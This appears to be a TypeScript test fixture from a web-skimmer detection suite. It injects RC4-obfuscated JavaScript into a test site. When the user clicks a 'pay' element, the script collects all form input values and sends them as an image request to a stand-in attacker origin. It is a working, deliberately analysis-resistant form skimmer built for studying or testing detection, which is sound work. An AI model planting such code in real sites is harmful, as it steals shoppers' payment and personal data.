import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { rc4 } from '../ciphers.ts';
import { RC4 } from '../snippets.ts';

const KEY = 'aZ3!';
const seal = (text: string): string => Buffer.from(rc4(KEY, Buffer.from(text)), 'latin1').toString('base64');

export default skimmer({
  id: 'rc4-string-table',
  why: 'Every name and address stands in a table of RC4-encrypted strings that is turned by a start value, as the best-known obfuscator writes it (3 of 88 samples).',
  covers: ['obfuscation: RC4 tables', 'obfuscation: arrays', 'hard: resists analysis'],
  base: 'direct',
  install: (site) => {
    const words = [
      'addEventListener',
      'click',
      'querySelectorAll',
      'input',
      'value',
      'src',
      `${site.origins.evil}/st.gif?d=`,
      'pay',
      'getElementById',
    ];
    const turned = [...words.slice(4), ...words.slice(0, 4)].map(seal);
    site.append(js`(function () { var _0x1f = ${JSON.stringify(turned)}; for (var n = 0; n < 5; n++) _0x1f.push(_0x1f.shift());
${RC4}
var _0x = function (i) { return rc4('${KEY}', atob(_0x1f[i])); };
document[_0x(8)](_0x(7))[_0x(0)](_0x(1), function () {
  var v = Array.from(document[_0x(2)](_0x(3)), function (e) { return e[_0x(4)]; }).join('^');
  new Image()[_0x(5)] = _0x(6) + encodeURIComponent(btoa(unescape(encodeURIComponent(v))));
}, true); })();`);
  },
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
